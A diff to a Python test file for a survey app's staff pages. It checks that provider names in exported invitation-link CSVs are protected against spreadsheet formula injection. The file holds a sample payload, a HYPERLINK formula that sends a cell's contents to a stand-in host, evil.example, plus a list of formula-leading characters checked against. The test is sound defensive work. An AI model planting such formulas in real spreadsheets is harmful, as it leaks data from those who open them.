@@ -13,9 +13,10 @@ import csv
 import io
 import unicodedata
 from datetime import date, timedelta
+from urllib.parse import urlsplit
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 from sqlalchemy import select
 
@@ -26,7 +27,8 @@ from app.organisation.models import Programme, Provider
 from app.spreadsheets import csv_text, safe_cell
 from app.surveys.services import load_builtin
 
-from .conftest import ROOT, csrf_token_from, login
+from .conftest import ROOT, csrf_token_from, login, stockholm_today
+from .forms import hidden_fields
 
 ISSUE_EXAMPLE = '=HYPERLINK("http://evil.example/?d="&A2,"Öppna")'
 
@@ -102,11 +104,14 @@ def admin_client(app, client, make_user):
 
 def _add_through_the_staff_pages(client, provider_name: str, programme_code: str) -> None:
     page = client.get("/staff/organisation/").get_data(as_text=True)
-    added = client.post("/staff/organisation/providers",
-                        data={"csrf_token": csrf_token_from(page), "provider-name": provider_name})
+    added = client.post("/staff/organisation/providers", data={
+        "csrf_token": csrf_token_from(page), **hidden_fields(page, "/staff/organisation/providers"),
+        "provider-name": provider_name,
+    })
     assert added.status_code == 303, added.get_data(as_text=True)
     added = client.post("/staff/organisation/programmes", data={
-        "csrf_token": csrf_token_from(page), "programme-code": programme_code, "programme-name": "Formler",
+        "csrf_token": csrf_token_from(page), **hidden_fields(page, "/staff/organisation/programmes"),
+        "programme-code": programme_code, "programme-name": "Formler",
     })
     assert added.status_code == 303, added.get_data(as_text=True)
 
@@ -118,7 +123,7 @@ def _campaign_of(app, provider_name: str, programme_code: str) -> tuple[int, int
         programme = db_session.scalar(select(Programme).where(Programme.code == programme_code))
         campaign = create_campaign(
             db_session, name="Formler", survey_version=version,
-            starts_on=date.today() - timedelta(days=1), ends_on=date.today() + timedelta(days=10),
+            starts_on=stockholm_today() - timedelta(days=1), ends_on=stockholm_today() + timedelta(days=10),
             providers=[provider], programmes=[programme], languages=["sv", "ar"],
         )
         db_session.commit()
@@ -127,10 +132,14 @@ def _campaign_of(app, provider_name: str, programme_code: str) -> tuple[int, int
 
 def _export(client, campaign_id: int, provider_id: int, programme_id: int, count: int = 2) -> list[list[str]]:
     page = client.get(f"/staff/campaigns/{campaign_id}").get_data(as_text=True)
-    download = client.post(f"/staff/campaigns/{campaign_id}/invitations", data={
-        "csrf_token": csrf_token_from(page), "provider": provider_id, "programme": programme_id,
-        "language": "ar", "count": count, "output": "csv",
+    action = f"/staff/campaigns/{campaign_id}/invitations"
+    made = client.post(action, data={
+        **hidden_fields(page, action), "provider": provider_id, "programme": programme_id,
+        "language": "ar", "count": count,
     })
+    assert made.status_code == 303
+    # The links page offers the CSV beside it: /staff/campaigns/<id>/links/<batch>.csv
+    download = client.get(urlsplit(made.headers["Location"]).path + ".csv")
     assert download.status_code == 200
     assert download.mimetype == "text/csv"
     return read_back(download.get_data(as_text=True))
@@ -157,6 +166,9 @@ def test_any_provider_name_reaches_the_links_csv_as_text(app, world, admin_clien
         provider = db_session.get(Provider, world.provider_ids[0])
         provider.name = name
         db_session.commit()
+        # As stored: NFC, white space as typed names keep it (app/text.py typed_name).
+        name = provider.name
+    assume(name)
     [_, row] = _export(admin_client, world.campaign_id, world.provider_ids[0], world.programme_ids[0], count=1)
     assert row[0] in (name, "'" + name)
     assert _first_shown(row[0]) not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
